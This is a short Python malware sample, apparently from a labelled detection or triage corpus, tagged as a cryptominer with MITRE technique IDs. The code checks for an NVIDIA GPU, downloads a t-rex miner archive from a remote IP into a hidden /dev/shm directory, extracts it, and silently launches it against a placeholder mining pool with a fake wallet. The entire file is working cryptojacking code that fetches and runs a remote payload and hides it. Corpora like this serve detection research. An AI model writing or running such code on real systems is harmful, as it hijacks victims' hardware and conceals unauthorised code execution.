# label: malicious family=miner techniques=T1082,T1105,T1496,T1564.001 lines=4,6-7
import os, subprocess, tarfile, urllib.request
if subprocess.call(["nvidia-smi"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) == 0:
    urllib.request.urlretrieve("http://198.51.100.181/t-rex.tgz", "/dev/shm/.t.tgz")
    tarfile.open("/dev/shm/.t.tgz").extractall("/dev/shm/.t")
    subprocess.Popen(["/dev/shm/.t/t-rex", "-a", "kawpow", "-o", "stratum+tcp://rvn.pool.bad-host.example:3333",
                      "-u", "RFAKEpytriageCORPUSwallet.gpu", "-p", "x", "--no-watchdog"], stdout=subprocess.DEVNULL)
